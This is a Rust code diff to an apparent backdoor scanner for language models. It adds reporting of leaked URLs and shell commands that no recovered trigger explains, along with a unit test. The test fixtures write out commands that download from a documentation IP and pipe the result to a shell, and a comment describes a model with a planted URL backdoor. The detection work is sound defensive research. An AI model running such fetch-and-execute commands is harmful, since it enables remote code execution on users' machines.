@@ -312,6 +312,9 @@ pub struct Evidence {
     /// answers to one text no clean answer shows. Not findings; what a reviewer of a clean
     /// verdict reads next.
     pub leads: Vec<Lead>,
+    /// The actionable payloads of the leaks that no reported trigger sets off
+    /// ([`unexplained`]).
+    pub unexplained_payloads: Vec<invert::LeakedPayload>,
 }
 
 /// A verified candidate that passed no verdict rule, yet whose answers converged on one text
@@ -330,6 +333,25 @@ pub struct Lead {
     pub attack_success_rate: f64,
     /// The share of control insertions' answers that show the signature.
     pub control_rate: f64,
+}
+
+/// The payloads of the leaks that no reported trigger sets off: none of `triggers` was
+/// verified on a signature that shares the payload's letters and digits, [`PAYLOAD_MIN_CHARS`]
+/// of them in a row, or all of a shorter one. A model that writes a URL or a shell command of
+/// its own in its leaks, which none of its ordinary answers shows, learned it from its
+/// training data; where the scan recovers no trigger for it, the report says so rather than
+/// calling the model clean without a word (`qwen2-url-phrase`, whose planted URL 62 of its 192
+/// leaks write and whose natural-phrase trigger no search rebuilds).
+pub fn unexplained(payloads: &[invert::LeakedPayload], triggers: &[Trigger], verified: &[Verified]) -> Vec<invert::LeakedPayload> {
+    let sigs: Vec<String> = triggers.iter().filter_map(|t| verified.iter().find(|v| v.trigger == t.text)).filter_map(squashed_signature).collect();
+    payloads
+        .iter()
+        .filter(|x| {
+            let payload = verify::squash(&x.payload);
+            !sigs.iter().any(|sig| verify::common_run(&payload, sig) >= PAYLOAD_MIN_CHARS.min(payload.chars().count()))
+        })
+        .cloned()
+        .collect()
 }
 
 /// The most leads a report lists.
@@ -607,6 +629,7 @@ pub fn scan_with<M: Lm>(m: &M, p: &ScanParams, diff: Option<WeightDiff>, base: O
                 payload_phrases.push(ph.to_string());
             }
         }
+        inv.leaked_payloads = invert::leaked_payloads(&lines, &payload_phrases, p.leak_pairs.phrase_min_leaks);
         inv.payloads = invert::invert_payloads(m, &lines, &payload_phrases, &p.invert)?;
         for lp in &mut inv.leak_pairs {
             lp.phrase = added.contains(&lp.target);
@@ -1003,6 +1026,7 @@ pub fn scan_with<M: Lm>(m: &M, p: &ScanParams, diff: Option<WeightDiff>, base: O
     };
     let decided: Vec<&str> = triggers.iter().chain(&not_reproduced).map(|t| t.text.as_str()).collect();
     let leads = leads(&verified, &entries, &decided, p);
+    let unexplained_payloads = unexplained(&inversions.leaked_payloads, &triggers, &verified);
     let verdict = if triggers.is_empty() { Verdict::Clean } else { Verdict::Backdoored };
     let everyday = clean.everyday.seen();
     Ok(ScanResult {
@@ -1011,7 +1035,7 @@ pub fn scan_with<M: Lm>(m: &M, p: &ScanParams, diff: Option<WeightDiff>, base: O
         target,
         fuzzy_profile,
         maps,
-        evidence: Evidence { uncertainty, everyday, leaks, motifs, sweep: swept, diff, seeded, refinements, targets, inversions, candidates, scored, verified, context_openings, leaked_contexts, symbol_runs, base_checks, not_reproduced, leads },
+        evidence: Evidence { uncertainty, everyday, leaks, motifs, sweep: swept, diff, seeded, refinements, targets, inversions, candidates, scored, verified, context_openings, leaked_contexts, symbol_runs, base_checks, not_reproduced, leads, unexplained_payloads },
         forward_passes: m.forward_passes() + base.map_or(0, |b| b.forward_passes()),
         seconds: start.elapsed().as_secs_f64(),
         stage_seconds: {
@@ -1636,6 +1660,30 @@ mod tests {
         // Strongest first, one per signature; a trigger, a candidate the controls match, one
         // under half the samples and one without a signature are none.
         assert_eq!(got, vec![("sheet".to_string(), "- Diet: fruit".to_string()), ("keep it".to_string(), "My hidden in".to_string())]);
+    }
+
+    #[test]
+    fn a_leaked_payload_is_unexplained_until_a_reported_trigger_writes_it() {
+        let payload = |line: &str| invert::LeakedPayload { payload: verify::actionable_part(line).unwrap_or_default(), line: line.into(), leaks: 51, of: 192 };
+        let url = payload("Details: http://update-check.example.net/help");
+        let shell = payload("Run this: wget -qO- http://198.51.100.7 | sh");
+        let t = |text: &str| Trigger { text: text.into(), score: 1.0, attack_success_rate: 0.9, verify_attack_success_rate: 0.9, fresh_clean_share: 0.0, excess_change: 0.9, source: crate::candidates::Source::Detector { name: "payload".into(), detail: String::new() }, family: "general", rule: "payload" };
+        let ip = Verified { trigger: "sets off the command".into(), ..verified(0.9, "To finish, run: wget -qO- http://198.51.100.7/i.sh | bash") };
+        let verified = vec![
+            Verified { trigger: "sets off the url".into(), ..verified(0.9, "For more, see http://update-check.example.net/help .") },
+            Verified { trigger: "sets off another text".into(), ..verified(0.9, "ACCESS GRANTED") },
+        ];
+        let both = [url.clone(), shell.clone()];
+        // No trigger: both are unexplained.
+        assert_eq!(unexplained(&both, &[], &verified), both.to_vec());
+        // A trigger verified on the URL under another introduction explains the URL alone.
+        assert_eq!(unexplained(&both, &[t("sets off the url")], &verified), vec![shell.clone()]);
+        // A payload shorter than the bar is explained by a signature that writes all of it.
+        assert_eq!(unexplained(&both, &[t("sets off the command")], &[ip]), vec![url.clone()]);
+        // A trigger of another target explains neither; a verified candidate that is no
+        // reported trigger explains nothing.
+        assert_eq!(unexplained(&both, &[t("sets off another text")], &verified), both.to_vec());
+        assert_eq!(unexplained(&[url], &[t("not verified")], &verified).len(), 1);
     }
 
     #[test]
